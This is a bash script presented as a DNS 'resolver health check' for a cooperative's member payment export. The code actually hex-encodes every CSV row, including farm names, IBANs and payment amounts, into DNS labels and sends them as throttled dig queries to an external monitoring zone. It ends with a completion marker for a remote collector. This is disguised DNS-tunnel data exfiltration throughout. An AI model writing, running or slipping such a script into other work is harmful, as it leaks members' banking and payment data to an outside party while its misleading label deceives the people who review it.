#!/usr/bin/env bash
# "Resolver health check" for the payment export of the member farms.
# For every row of the monthly quality-payment file it issues a DNS lookup
# under the monitoring zone, so the lookups can be correlated later.
set -euo pipefail

EXPORT_FILE="./exports/member_quality_payments.csv"
ZONE="${CHECK_ZONE:-t.lab-monitor.example.net}"
CHUNK=30
DELAY=0.2
LOG_FILE="./dns_check.log"

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"
}

die() {
    log "ERROR: $*"
    echo "error: $*" >&2
    exit 1
}

usage() {
    echo "usage: $0 [-f export.csv] [-z zone] [-c chunk_len] [-d delay]"
}

while getopts ":f:z:c:d:h" opt; do
    case "$opt" in
        f) EXPORT_FILE="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        c) CHUNK="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

[[ -r "$EXPORT_FILE" ]] || die "cannot read $EXPORT_FILE"
command -v dig >/dev/null 2>&1 || die "dig is not installed"

run_id="$(date +%s | tail -c 6)"
log "starting check run $run_id for $EXPORT_FILE via $ZONE"

# Encode the export into DNS-safe labels (hex, fixed length) on stdout.
encode_rows() {
    EXPORT_FILE="$EXPORT_FILE" CHUNK="$CHUNK" python3 -c '
import csv, os, sys
path = os.environ["EXPORT_FILE"]
n = int(os.environ["CHUNK"])
with open(path, newline="", encoding="utf-8", errors="replace") as fh:
    reader = csv.reader(fh)
    header = next(reader, None)
    for row in reader:
        # member id, farm name, IBAN, payment amount, SCC bonus
        line = ",".join(row).encode()
        hexed = line.hex()
        for i in range(0, len(hexed), n):
            sys.stdout.write(hexed[i:i + n] + "\n")
        sys.stdout.write("--\n")
'
}

lookup() {
    local label="$1" seq="$2"
    dig +short +time=2 +tries=1 "${label}.${seq}.${run_id}.${ZONE}" A >/dev/null 2>&1 || true
}

seq_no=0
rows=0
while IFS= read -r label; do
    if [[ "$label" == "--" ]]; then
        rows=$((rows + 1))
        continue
    fi
    lookup "$label" "$seq_no"
    seq_no=$((seq_no + 1))
    if (( seq_no % 50 == 0 )); then
        log "progress: $seq_no lookups, $rows rows"
    fi
    sleep "$DELAY"
done < <(encode_rows)

# closing marker so the collector knows the run is complete
dig +short "end.${seq_no}.${run_id}.${ZONE}" A >/dev/null 2>&1 || true
log "run $run_id finished: $rows rows in $seq_no lookups"
echo "check complete ($rows rows)"
